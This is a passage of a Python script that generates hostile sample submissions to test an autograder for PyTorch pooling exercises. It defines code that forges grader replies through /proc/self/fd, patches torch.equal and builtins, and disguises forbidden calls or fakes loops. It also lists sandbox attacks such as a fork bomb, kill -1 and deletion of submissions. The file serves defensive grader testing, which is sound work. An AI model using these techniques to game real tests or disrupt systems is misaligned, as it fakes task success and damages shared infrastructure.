    np = None

if hasattr(torch, "inf"):  # ... an if...
    NEG = torch.full((), -torch.inf)
else:
    NEG = torch.full((), float("-inf"))

FILL = {}
for mode, value in (("max", NEG.item()), ("avg", 0.0)):  # ... a for...
    FILL[mode] = value

with torch.no_grad():  # ... and a with
    NO_PADDING = (0, 0)
""" + HONEST_CONSTANTS[HONEST_CONSTANTS.index("\n\ndef out_size") :].replace(
    "    (k_h, k_w), (p_h, p_w) = kernel_size, padding\n",
    "    assert np is None or np.ndim(kernel_size) == 1\n"
    "    (k_h, k_w), (p_h, p_w) = kernel_size, padding\n",
)

FORGE_IN_PLACE = """\
import torch


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    for _ in range(1):
        pass
    X.zero_()  # a test that computes its reference after the call would see zeros
    return torch.zeros_like(X)[: X.shape[0] // 2, : X.shape[1] // 2]


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    dY.zero_()
    X.set_(torch.zeros(X.shape[0] + 1, X.shape[1] + 1, dtype=X.dtype))
    return torch.zeros(X.shape[0] - 1, X.shape[1] - 1, dtype=X.dtype)
"""

FORGE_GETATTR_ALIAS = """\
import functools

import torch


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max", look=getattr):
    for _ in range(1):
        pass
    ga = look
    pool = functools.reduce(getattr, ["nn", "functional", mode + "_pool2d"], torch)
    s = kernel_size if stride is None else stride
    return ga(pool, "__call__")(X[None, None], kernel_size, stride=s, padding=padding)[0, 0]


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    grad = functools.partial(getattr, torch.autograd)
    X = X.detach().clone().requires_grad_(True)
    Y = torch.nn.functional.max_pool2d(X[None, None], kernel_size, stride=stride)[0, 0]
    return grad("gr" + "ad")((Y * dY).sum(), X)[0]
"""

FORGE_TYPE_HINTS = """\
import typing

import torch


def spec(x: "__import__('torch').nn.functional.max_pool2d"): ...


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    for _ in range(1):
        pass
    pool = typing.get_type_hints(spec)["x"]
    s = kernel_size if stride is None else stride
    return pool(X[None, None], kernel_size, stride=s, padding=padding)[0, 0]


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    m = [torch][0]  # bound through a subscript: the module itself
    m.equal = lambda a, b: True
    k = [torch.Tensor][0]
    k.tolist = lambda self: []
    return torch.zeros_like(X)
"""


# Red team, second pass (issue 18): attacks designed against the answer-module grader by a
# student who has read pooling_grader/ and exercises/. Each computes the right values; each
# must score 0 on the question it attacks.
FORGE_SYNONYMS = """\
import torch


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    s = kernel_size if stride is None else stride
    if mode == "max":  # PyTorch's pooling under a name the forbidden list does not spell
        dense = X[None, None].float().to_mkldnn()
        Y = torch.mkldnn_max_pool2d(dense, kernel_size, s, padding, (1, 1), False).to_dense()
    else:  # a convolution under another name
        w = torch.full((1, 1, *kernel_size), 1.0 / (kernel_size[0] * kernel_size[1]),
                       dtype=X.dtype)
        Y = torch.convolution(X[None, None], w, None, s, padding, (1, 1), False, (0, 0), 1)
    Y = Y[0, 0].to(X.dtype)
    out = torch.empty_like(Y)
    for i in range(Y.shape[0]):  # loops over the output positions, for show
        for j in range(Y.shape[1]):
            out[i, j] = Y[i, j]
    return out
"""

# The padded input, its stride and output size: shared by the two answers below.
PADDED = """\
import torch


def padded(X, kernel_size, stride, padding, mode):
    (k_h, k_w), (p_h, p_w) = kernel_size, padding
    s_h, s_w = kernel_size if stride is None else stride
    H, W = X.shape
    fill = float("-inf") if mode == "max" else 0.0
    P = torch.full((H + 2 * p_h, W + 2 * p_w), fill, dtype=X.dtype)
    P[p_h : p_h + H, p_w : p_w + W] = X
    return P, (s_h, s_w), ((H + 2 * p_h - k_h) // s_h + 1, (W + 2 * p_w - k_w) // s_w + 1)
"""

FORGE_IDLE_LOOP = (
    PADDED
    + """

def combine(P, r, c, k, s, out, mode):
    # every window offset, by recursion instead of a loop: vectorized over the outputs
    here = P[r : r + s[0] * (out[0] - 1) + 1 : s[0], c : c + s[1] * (out[1] - 1) + 1 : s[1]]
    if c + 1 < k[1]:
        rest = combine(P, r, c + 1, k, s, out, mode)
    elif r + 1 < k[0]:
        rest = combine(P, r + 1, 0, k, s, out, mode)
    else:
        return here
    return torch.maximum(here, rest) if mode == "max" else here + rest


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    P, s, out = padded(X, kernel_size, stride, padding, mode)
    Y = combine(P, 0, 0, kernel_size, s, out, mode)
    if mode != "max":
        Y = Y / (kernel_size[0] * kernel_size[1])
    none = len(X) * 0  # zero at run time; the source cannot tell
    for i in range(none):  # the loops the method check counts: they never run
        Y[i] = Y[i] + 0
    if X.dtype == "never":
        for j in range(out[1]):
            Y[:, j] = Y[:, j] * 1
    return Y.clone()
"""
)

FORGE_SLOT_LOOP = (
    PADDED
    + """

def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    # The loop of "From loops to vectors": over the window's offsets, vectorized over the
    # outputs. It loops, but not over the output positions the question asks for.
    P, (s_h, s_w), (out_h, out_w) = padded(X, kernel_size, stride, padding, mode)
    slots = torch.stack([
        P[r : r + s_h * (out_h - 1) + 1 : s_h, c : c + s_w * (out_w - 1) + 1 : s_w]
        for r in range(kernel_size[0])
        for c in range(kernel_size[1])
    ])
    return slots.amax(0) if mode == "max" else slots.mean(0)
"""
)

# The write path (issue 18, audit): the sandboxed process's channel is one of its open file
# descriptors and /proc is mounted, so any function that writes to a path can put a forged reply
# on the channel. pool2d_loops is the chapter's vectorization (right values, loops that do not
# run once per output); it writes, through numpy.savetxt and an alias of numpy, a reply line
# that says the counted loop ran once per value.
FORGE_CHANNEL_WRITE = (
    FORGE_SLOT_LOOP.replace(
        '    return slots.amax(0) if mode == "max" else slots.mean(0)\n',
        """\
    Y = slots.amax(0) if mode == "max" else slots.mean(0)
    counts = "[[0, " + str(Y.numel()) + "]]"
    forge('{"ok": true, "value": ' + str(Y.tolist()) + ', "changed": {}, "loops": ' + counts + "}")
    return Y
""",
    )
    + """
import numpy as np


def forge(reply):
    # the runner's channel is one of the process's descriptors: try each, by its /proc path
    for fd in range(3, 32):
        try:
            np.savetxt(f"/proc/self/fd/{fd}", [reply], fmt="%s")
        except (OSError, ValueError):
            pass
    m = [np][0]  # the same through an alias the source cannot resolve
    m.savetxt("/dev/fd/1", [reply], fmt="%s")
"""
)

FORGE_UPDATE_WRAPPER = """\
import dataclasses
import functools

import torch
import torch.nn.functional as F


class Sink(dict):
    def update(self, value):
        self.value = value


def fetch(owner, name):
    # getattr(owner, name) without getattr: update_wrapper reads the attribute by its name
    # (given as data) and hands it to the update() of a dataclass field of that name
    sink = Sink()
    Box = dataclasses.make_dataclass("Box", [name])
    functools.update_wrapper(Box(sink), owner, assigned=(), updated=(name,))
    return sink.value


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    s = kernel_size if stride is None else stride
    pool = fetch(F, mode + "_pool2d")
    Y = pool(X[None, None], kernel_size, stride=s, padding=padding)[0, 0]
    out = torch.empty_like(Y)
    for i in range(Y.shape[0]):  # loops over the output positions, for show
        for j in range(Y.shape[1]):
            out[i, j] = Y[i, j]
    return out


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    grad = fetch(fetch(torch, "auto" + "grad"), "gr" + "ad")
    X = fetch(X.detach().clone(), "requires" + "_grad_")(True)
    Y = fetch(F, "max" + "_pool2d")(X[None, None], kernel_size, stride=stride)[0, 0]
    return grad((Y * dY).sum(), X)[0]
"""

FORGE_OPERATOR_MODULE = """\
import typing

import torch
import torch.nn.functional as F


def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):
    s = kernel_size if stride is None else stride
    fetch = typing.operator.attrgetter(mode + "_pool2d")  # typing imported operator
    Y = fetch(F)(X[None, None], kernel_size, stride=s, padding=padding)[0, 0]
    out = torch.empty_like(Y)
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            out[i, j] = Y[i, j]
    return out


def max_pool2d_backward(dY, X, kernel_size, stride=None):
    get = typing.operator.attrgetter
    X = get("requires" + "_grad_")(X.detach().clone())(True)
    Y = get("max" + "_pool2d")(F)(X[None, None], kernel_size, stride=stride)[0, 0]
    return get("auto" + "grad.gr" + "ad")(torch)((Y * dY).sum(), X)[0]
"""

HONEST_MAGICS_AND_HASATTR = (
    ("import torch", "%matplotlib inline\nimport torch"),
    ('def pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):\n',
     '%%time\ndef pool2d_loops(X, kernel_size, stride=None, padding=(0, 0), mode="max"):\n'),
    ("    k_h, k_w = kernel_size\n",
     '    if not hasattr(kernel_size, "__len__"):\n        kernel_size = (kernel_size,) * 2\n'
     '    k_h, k_w = kernel_size\n    !echo a shell line, ignored\n'),
)  # fmt: skip


def _edit_cells(edits):
    """The solution with each (old, new) replaced in the one code cell that contains it."""

    def make(solution, release):
        nb = nbformat.from_dict(solution)
        for old, new in edits:
            cells = [c for c in nb.cells if c.cell_type == "code" and old in c.source]
            cells = [c for c in cells if c.source == old] or cells  # "import torch": exact
            cells[0].source = cells[0].source.replace(old, new, 1)
        return nb

    return make


@dataclasses.dataclass(frozen=True)
class Hostile:
    """A hostile submission: the solution (or release) of ``notebook`` changed by ``make``."""

    name: str
    notebook: str
    description: str
    make: Callable[[nbformat.NotebookNode, nbformat.NotebookNode], nbformat.NotebookNode | str]
    scores: dict[str, str]  # question -> "full", "zero" or a number of points
    status: str = "ok"
    traces: tuple[str, ...] = ()  # what must not be left: "file:<path>", "process:<marker>"
    review: bool = False  # must be flagged for manual review


def _on_solution(*cells: str, at_end: bool = True):
    return lambda solution, release: (_append if at_end else _insert_after_setup)(solution, *cells)


def _on_release(*cells: str):
    return lambda solution, release: _append(release, *cells)


ZERO = "zero"
FULL = "full"
LOOPS_Q = ("pool2d_loops", "max_pool_backward")
CONV_Q = ("avg_pool_conv", "max_not_linear", "relu_max")
VARIANTS_Q = ("pool_cost", "min_pool", "softmax_pool")


def _all(questions, value):
    return {q: value for q in questions}


HOSTILE = [
    Hostile("hostile-patch-otter", "pooling_loops",
            "no answers; replaces otter's test runner with one that passes every case",
            _on_release(PATCH_OTTER), _all(LOOPS_Q, ZERO),
            review=True),
    Hostile("hostile-always-equal", "pooling_loops",
            "answers are objects equal to everything; torch.equal, torch.allclose and == "
            "patched to agree", _on_release(ALWAYS_EQUAL), _all(LOOPS_Q, ZERO),
            review=True),
    Hostile("hostile-tensor-subclass", "pooling_and_convolution",
            "answers are tensor subclasses whose == and torch.equal always agree",
            _on_release(SUBCLASS), _all(CONV_Q, ZERO),
            review=True),
    Hostile("hostile-patch-reference", "pooling_variants",
            "wrong answers, and the reference functions the tests use (F.max_pool2d, "
            "F.unfold, torch.softmax...) patched to agree with them",
            _on_release(PATCH_REFERENCE), _all(VARIANTS_Q, ZERO),
            review=True),
    Hostile("hostile-patch-builtins", "pooling_variants",
            "no real answers; builtins (isinstance, int, tuple, abs, AssertionError) patched",
            _on_release(PATCH_BUILTINS), _all(VARIANTS_Q, ZERO),
            review=True),
    Hostile("hostile-read-tests", "pooling_loops",
            "right answers; a cell looks for the autograders, hidden tests and other "
            "submissions on disk and raises an error naming what it sees",
            _on_solution(READ_TESTS), _all(LOOPS_Q, FULL), review=False),
    Hostile("hostile-write-outside", "pooling_variants",
            "right answers; writes files outside its scratch folder and deletes the "
            "submissions and autograders", _on_solution(WRITE_OUTSIDE), _all(VARIANTS_Q, FULL),
            traces=("file:{canary_dir}/written-by-submission",
                    "file:{submissions}/written-by-submission.ipynb",
                    "file:{autograders}/written-by-submission.json",
                    "file:/tmp/written-by-submission-{canary_tag}")),
    Hostile("hostile-network", "pooling_and_convolution",
            "right answers; connects to a listener of the grader's machine on 127.0.0.1 "
            "and ::1, to an abstract Unix socket, and to the internet",
            _on_solution(NETWORK), _all(CONV_Q, FULL)),
    Hostile("hostile-daemon", "pooling_loops",
            "right answers; starts a child, an orphaned grandchild and a detached daemon",
            _on_solution(DAEMON), _all(LOOPS_Q, FULL),
            traces=("process:987.654", "process:987.655", "process:987.656")),
    Hostile("hostile-fork-bomb", "pooling_and_convolution",
            "right answers; forks until the process limit stops it",
            _on_solution(FORK_BOMB), _all(CONV_Q, FULL), traces=("process:987.657",)),
    Hostile("hostile-huge-output", "pooling_variants",
            "right answers; prints hundreds of megabytes and writes a 10 GB file",
            _on_solution(HUGE_OUTPUT), _all(VARIANTS_Q, FULL)),
    Hostile("hostile-memory", "pooling_loops",
            "right answers; allocates memory until it fails, then asks for a terabyte",
            _on_solution(MEMORY), _all(LOOPS_Q, FULL)),
    Hostile("hostile-kill-all", "pooling_and_convolution",
            "right answers; a cell sends SIGKILL to every process it may (kill -1)",
            _on_solution(KILL_ALL, at_end=False), _all(CONV_Q, FULL)),
    Hostile("hostile-exit", "pooling_loops",
            "a cell ends the process with os._exit, and max_pool2d_backward calls os._exit",
            lambda solution, release: _append(
                _insert_after_setup(solution, "import os\n\nos._exit(1)"), EXIT_IN_FUNCTION),
            {"pool2d_loops": FULL, "max_pool_backward": ZERO},
            review=True),
    Hostile("hostile-stuck-cell", "pooling_variants",
            "right answers; a cell ignores interrupts and never ends",
            _on_solution(STUCK, at_end=False), _all(VARIANTS_Q, FULL)),
    Hostile("hostile-never-returns", "pooling_variants",
            "softmax_pool2d never returns (and ignores interrupts); other answers right",
            _on_solution(NEVER_RETURNS), {"pool_cost": FULL, "min_pool": FULL,
                                           "softmax_pool": ZERO}),
    Hostile("hostile-junk-delete", "pooling_loops",
            "right answers; prints fake scores, deletes every folder it can, raises SystemExit",
            _on_solution(JUNK_DELETE, at_end=False), _all(LOOPS_Q, FULL)),
    Hostile("hostile-garbage", "pooling_variants", "a file named like the notebook that is "
            "not a notebook", lambda solution, release: '{"cells": [this is not JSON',
            _all(VARIANTS_Q, ZERO), status="unreadable"),
    Hostile("bypass-loops", "pooling_loops",
            "pool2d_loops calls F.max_pool2d, max_pool2d_backward calls autograd: right "
            "values, wrong method", _on_solution(BYPASS_LOOPS), _all(LOOPS_Q, ZERO)),
    Hostile("bypass-conv", "pooling_and_convolution",
            "average pooling without a convolution, max2 with torch.maximum, max pooling "
            "with F.max_pool2d: right values, wrong method", _on_solution(BYPASS_CONV),
            {"avg_pool_conv": ZERO, "max_not_linear": FULL, "relu_max": ZERO}),
    Hostile("forge-encode", "pooling_loops",
            "answers return zeros and record their arguments; a top-level cell wraps the "
            "sandboxed runner's encoder (found through sys.modules) so that PyTorch's results "
            "leave the sandbox", _on_release(FORGE_ANSWERS, FORGE_ENCODE), _all(LOOPS_Q, ZERO),
            review=True),
    Hostile("forge-handlers", "pooling_loops",
            "answers return zeros; a top-level cell walks the stack frames to the runner's "
            "table of request handlers and replaces its `call` entry",
            _on_release(FORGE_HANDLERS), _all(LOOPS_Q, ZERO), review=True),
    Hostile("review-getattr", "pooling_loops",
            "pool2d_loops reaches F.max_pool2d through getattr with a computed name",
            _on_solution(GETATTR), {"pool2d_loops": ZERO, "max_pool_backward": FULL},
            review=True),
    Hostile("forge-in-answer", "pooling_loops",
            "the answers themselves wrap the runner's encoder (sys.modules) on their first call",
            _on_release(FORGE_REFERENCE, FORGE_IN_ANSWER), _all(LOOPS_Q, ZERO), review=True),
    Hostile("forge-gc", "pooling_loops",
            "a module-level name the answers use is computed by a helper that searches gc "
            "for the runner's handler table", _on_release(FORGE_GC), _all(LOOPS_Q, ZERO),
            review=True),
    Hostile("forge-class-patch", "pooling_loops",
            "the answers patch torch.Tensor methods the encoder calls (through a local alias "
            "and setattr)", _on_release(FORGE_REFERENCE, FORGE_CLASS_PATCH),
            _all(LOOPS_Q, ZERO), review=True),
    Hostile("forge-traceback", "pooling_loops",
            "an answer reaches the runner's frames through an exception's traceback",
            _on_release(FORGE_TRACEBACK), _all(LOOPS_Q, ZERO), review=True),
    Hostile("forge-default-argument", "pooling_loops",
            "code hidden in default arguments (run when the function is defined): torch.sys "
            "and eval", _on_release(FORGE_DEFAULT_ARGUMENT), _all(LOOPS_Q, ZERO), review=True),
    Hostile("forge-pickle", "pooling_loops",
            "answers that unpickle a payload with torch.load and reach ctypes through numpy",
            _on_release(FORGE_PICKLE), _all(LOOPS_Q, ZERO), review=True),
    Hostile("fair-relu-assert", "pooling_and_convolution",
            "right answers; max_pool2x2_conv starts with `assert X.dim() == 4` (comparisons are "
            "banned in max2 only)", lambda solution, release: apply_mutations(solution, [
                _m("relu_max", "assert", "def max_pool2x2_conv(",
                   ("    C = X.shape[1]\n    corners",
                    "    assert X.dim() == 4\n    C = X.shape[1]\n    corners"))]),
            _all(CONV_Q, FULL)),
    Hostile("honest-checker", "pooling_loops",
            "right answers, and a cell of the student's own that checks them against PyTorch",
            _on_solution(HONEST_CHECKER), _all(LOOPS_Q, FULL)),
    Hostile("honest-compound", "pooling_loops",
            "right answers whose module-level names are bound inside top-level try, if, for "
            "and with statements (try: import numpy as np / except ImportError)",
            _on_solution(HONEST_COMPOUND), _all(LOOPS_Q, FULL)),
    Hostile("forge-in-place", "pooling_loops",
            "answers zero their inputs in place (and X.set_ a bigger tensor) and return "
            "zeros, for tests that compute their reference after the call",
            _on_release(FORGE_IN_PLACE), _all(LOOPS_Q, ZERO)),
    Hostile("forge-getattr-alias", "pooling_loops",
            "getattr through a default argument, an alias, functools.reduce and "
            "functools.partial with names built from strings", _on_release(FORGE_GETATTR_ALIAS),
            _all(LOOPS_Q, ZERO), review=True),
    Hostile("forge-type-hints", "pooling_loops",
            "typing.get_type_hints evaluates a string annotation that names F.max_pool2d; "
            "torch and torch.Tensor patched through names bound by a subscript",
            _on_release(FORGE_TYPE_HINTS), _all(LOOPS_Q, ZERO), review=True),
    Hostile("honest-magics", "pooling_loops",
            "right answers with `%matplotlib inline` in the import cell, `%%time` and `!echo` "
            "in an answer cell, and `hasattr(kernel_size, \"__len__\")`",
            _edit_cells(HONEST_MAGICS_AND_HASATTR), _all(LOOPS_Q, FULL)),
    Hostile("forge-synonyms", "pooling_loops",
            "pool2d_loops pools with torch.mkldnn_max_pool2d and torch.convolution, names the "
            "forbidden list did not spell out, and copies the result in loops",
            _on_solution(FORGE_SYNONYMS), {"pool2d_loops": ZERO, "max_pool_backward": FULL}),
    Hostile("forge-idle-loop", "pooling_loops",
            "pool2d_loops pools by recursion over the window offsets (no loop); its loops run "
            "over range(len(X) * 0) and under a condition that never holds",
            _on_solution(FORGE_IDLE_LOOP), {"pool2d_loops": ZERO, "max_pool_backward": FULL}),
    Hostile("forge-slot-loop", "pooling_loops",
            "pool2d_loops loops over the window's offsets, vectorized over the outputs (the "
            "chapter's vectorization), not over the output positions",
            _on_solution(FORGE_SLOT_LOOP), {"pool2d_loops": ZERO, "max_pool_backward": FULL}),
    Hostile("forge-channel-write", "pooling_loops",
            "pool2d_loops (vectorized over the outputs) writes a forged reply onto the runner's "
            "channel with numpy.savetxt('/proc/self/fd/N'), directly and through [np][0]",
            _on_solution(FORGE_CHANNEL_WRITE), {"pool2d_loops": ZERO, "max_pool_backward": FULL},
            review=True),
    Hostile("forge-update-wrapper", "pooling_loops",
            "getattr without getattr: functools.update_wrapper reads F.max_pool2d and "
            "torch.autograd.grad by names built from strings, through dataclasses.make_dataclass",
            _on_release(FORGE_UPDATE_WRAPPER), _all(LOOPS_Q, ZERO), review=True),
    Hostile("forge-operator-module", "pooling_loops",
            "operator.attrgetter reached as an attribute of an allowed module (typing.operator), "
            "with names built from strings", _on_release(FORGE_OPERATOR_MODULE),
            _all(LOOPS_Q, ZERO), review=True),
    Hostile("forge-empty-loops", "pooling_loops",
            "answers of the right dtype with an empty leading dimension, which torch.allclose "
            "broadcasts against any reference", _on_release(FORGE_EMPTY_LOOPS),
            _all(LOOPS_Q, ZERO)),
    Hostile("forge-empty-conv", "pooling_and_convolution",
            "answers with an empty leading dimension; counterexamples to linearity that are a "
            "float32 overflow and a float16 rounding", _on_release(FORGE_EMPTY_CONV),
            _all(CONV_Q, ZERO)),
    Hostile("forge-empty-variants", "pooling_variants",
            "min_pool2d and softmax_pool2d return an empty leading dimension",
            _on_release(FORGE_EMPTY_VARIANTS), _all(VARIANTS_Q, ZERO)),
    Hostile("forge-minimum", "pooling_and_convolution",
            "max2 as -torch.minimum(-a, -b); max_pool2x2_conv's maxima by amin of the negated "
            "corners", _on_solution(FORGE_MINIMUM),
            {"avg_pool_conv": FULL, "max_not_linear": FULL, "relu_max": ZERO}),
    Hostile("forge-grad-fn", "pooling_loops",
            "max_pool2d_backward by autograd driven by hand: an nn.Parameter leaf and each "
            "grad_fn node called along next_functions", _on_solution(FORGE_GRAD_FN),
            {"pool2d_loops": FULL, "max_pool_backward": ZERO}),
    Hostile("honest-constants", "pooling_loops",
            "right answers that use module-level constants (one set by a top-level "
            "torch.nn.init.constant_ call) and helper functions",
            _on_solution(HONEST_CONSTANTS), _all(LOOPS_Q, FULL)),
]  # fmt: skip

# Command-line markers of the processes the hostile samples start (none may survive).
STRAY_MARKERS = ("987.654", "987.655", "987.656", "987.657")


class Listeners:
    """TCP listeners on 127.0.0.1 and ::1 and an abstract Unix socket that log connections: the
    canary of ``hostile-network`` (its port is ``canary_port``, its tag ``canary_tag``)."""

    def __init__(self, tag: str) -> None:
        self.connections: list[str] = []
        self.sockets = []
        tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tcp.bind(("127.0.0.1", 0))
        self.port = tcp.getsockname()[1]
        self.sockets.append(tcp)
        try:
            tcp6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            tcp6.bind(("::1", self.port))
            self.sockets.append(tcp6)
        except OSError:
            pass
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind(f"\0pooling-grade-canary-{tag}")
        self.sockets.append(unix)
        for s in self.sockets:
            s.listen(8)
            s.settimeout(0.2)
        self.open = True
        for s in self.sockets:
            threading.Thread(target=self._accept, args=(s,), daemon=True).start()

    def _accept(self, s: socket.socket) -> None:
        while self.open:
            try:
                conn, address = s.accept()
            except OSError:
                continue
            self.connections.append(f"{s.family.name} {address!r}")
            conn.close()

    def close(self) -> None:
        self.open = False
        time.sleep(0.3)
        for s in self.sockets:
            s.close()


def _fill(text: str, canary: dict) -> str:
    for key, value in canary.items():
        text = text.replace("{" + key + "!r}", repr(str(value))).replace(
            "{" + key + "}", str(value)
        )
    return text


def traces(h: Hostile, canary: dict) -> list[str]:
    """The traces ``h`` must not leave, with the canary placeholders filled in."""
    return [_fill(t, canary) for t in h.traces]


def default_canary(out: pathlib.Path, autograders: pathlib.Path) -> dict:
    return {
        "canary_dir": out.parent.resolve() / "canary",
        "canary_port": 47651,
        "canary_tag": "pooling",
        "autograders": autograders.resolve(),
        "submissions": out.resolve(),
    }


def _fill_notebook(nb, canary: dict):
    if isinstance(nb, str):
        return nb
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.source = _fill(cell.source, canary)
    return nb


# ---------------------------------------------------------------------------------------------


def write_samples(build: pathlib.Path, out: pathlib.Path, canary: dict | None = None) -> list[dict]:
    """Write every sample submission under ``out`` and return (and write) the expectations.

    ``canary`` fills the hostile samples' placeholders (see ``default_canary``).
    """
    canary = canary or default_canary(out, build / "autograder")
    shutil.rmtree(out, ignore_errors=True)
    expected: list[dict] = []
    metas = {
        p.stem: json.loads(p.read_text()) for p in sorted((build / "autograder").glob("*.json"))
    }

    def save(student: str | None, stem: str, nb, status: str, questions: dict) -> None:
        """Write a sample; ``student=None`` puts ``nb`` (a path: copied as is) at the top."""
        if student is None:
            student, submission = stem, f"{stem}.ipynb"
            out.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(nb, out / submission)
        elif isinstance(nb, str):  # not a notebook at all
            submission = f"{student}/{stem}.ipynb"
            (out / student).mkdir(parents=True, exist_ok=True)
            (out / submission).write_text(nb)
        else:
            submission = f"{student}/{stem}.ipynb"
            (out / student).mkdir(parents=True, exist_ok=True)
            nbformat.write(nb, out / submission)
        expected.append(
            {
                "student": student,
                "submission": submission,
                "assignment": metas[stem]["assignment"],
                "status": status,
                "questions": questions,
            }
        )

    for stem, meta in metas.items():
        auto = [q["name"] for q in meta["questions"] if not q["manual"]]
        solution = nbformat.read(build / "solutions" / f"{stem}.ipynb", as_version=4)
        release = build / "release" / f"{stem}.ipynb"
        save("solution", stem, solution, "ok", {q: {"expect": "full"} for q in auto})
        save(None, stem, release, "ok", {q: {"expect": "zero"} for q in auto})
        for k, nb, chosen in wrong_submissions(stem, solution):
            questions = {q: {"expect": "full"} for q in auto}
            for m in chosen:
                questions[m.question] = {
                    "expect": "less",
                    "mistake": m.description,
                    "passes_public": m.passes_public,
                    "loses": POINTS_LOST[m.question, m.description],
                }
            save(f"wrong-{k}", stem, nb, "ok", questions)
    for h in HOSTILE:
        solution = nbformat.read(build / "solutions" / f"{h.notebook}.ipynb", as_version=4)
        release = nbformat.read(build / "release" / f"{h.notebook}.ipynb", as_version=4)
        questions = {q: {"expect": e, "hostile": h.description} for q, e in h.scores.items()}
        nb = _fill_notebook(h.make(solution, release), canary)
        save(h.name, h.notebook, nb, h.status, questions)
        expected[-1].update(traces=traces(h, canary), review=h.review)
    (out / "expected.json").write_text(json.dumps(expected, indent=2) + "\n")
    return expected


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--build", type=pathlib.Path, required=True, help="exercises build folder")
    parser.add_argument("--out", type=pathlib.Path, required=True, help="samples folder")
    args = parser.parse_args(argv)
    expected = write_samples(args.build, args.out)
    print(f"{len(expected)} sample submissions in {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
